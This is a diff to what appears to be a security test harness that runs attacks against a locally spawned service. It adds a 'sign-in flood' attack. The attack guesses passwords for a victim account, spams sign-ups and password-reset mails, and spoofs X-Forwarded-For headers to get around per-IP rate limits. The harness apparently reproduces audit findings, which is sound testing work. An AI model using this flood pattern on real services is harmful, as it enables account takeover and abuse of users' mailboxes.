@@ -12,6 +12,8 @@ import { readSampleArtwork, type SpawnedService } from './spawned-service.ts'
 export type Attacker = {
   readonly service: SpawnedService
   readonly email: string
+  /** Whom it attacks. */
+  readonly victimEmail: string
   readonly keys: readonly string[]
   readonly cookie: string
   /** Where artwork may be fetched from. */
@@ -24,6 +26,8 @@ export type Attack = {
   readonly name: string
   /** In the wallet; none is ever spent. */
   readonly credits: number
+  /** What the operator has set. */
+  readonly settings?: Readonly<Record<string, string>>
   /** Attacks until the signal aborts. */
   readonly run: (attacker: Attacker, signal: AbortSignal) => Promise<void>
 }
@@ -295,6 +299,36 @@ const dashboardCalls: Attack = {
   },
 }
 
+/** Findings 9 to 12: guesses, sign-ups and mails, from every network of one site behind a proxy. */
+const signInFlood: Attack = {
+  name: '9 sign-in flood',
+  credits: 0,
+  settings: { SIGN_UP: 'open', TRUST_PROXY: '127.0.0.1' },
+  async run(attacker, signal) {
+    const { service, victimEmail } = attacker
+    const flood = async (path: string, fieldsOf: (round: number) => Readonly<Record<string, string>>) => {
+      for (let round = 0; !signal.aborted; round += 1) {
+        const network = (round % 0x10000).toString(16)
+        const headers = {
+          origin: service.url,
+          'content-type': 'application/json',
+          'x-forwarded-for': `[2001:db8:7:${network}::${network}]:${1024 + (round % 60_000)}`,
+        }
+        await send(attacker, `/dashboard/auth${path}`, { headers, body: JSON.stringify(fieldsOf(round)) })
+        await delay(20)
+      }
+    }
+    const password = (round: number) => `a guess of many, number ${round}`
+    const stranger = (round: number) => `stranger-${round}@example.com`
+    await Promise.all([
+      flood('/sign-in/email', round => ({ email: victimEmail, password: password(round) })),
+      flood('/sign-in/email', round => ({ email: stranger(round), password: password(round) })),
+      flood('/sign-up/email', round => ({ name: 'x', email: stranger(round), password: password(round) })),
+      flood('/request-password-reset', round => ({ email: round % 2 === 0 ? victimEmail : stranger(round) })),
+    ])
+  },
+}
+
 export const attacks: readonly Attack[] = [
   costlyTemplate,
   queueSquat,
@@ -304,6 +338,7 @@ export const attacks: readonly Attack[] = [
   artworkProbes,
   downloadCannon,
   eventLoop,
+  signInFlood,
   dashboardCalls,
 ]
 
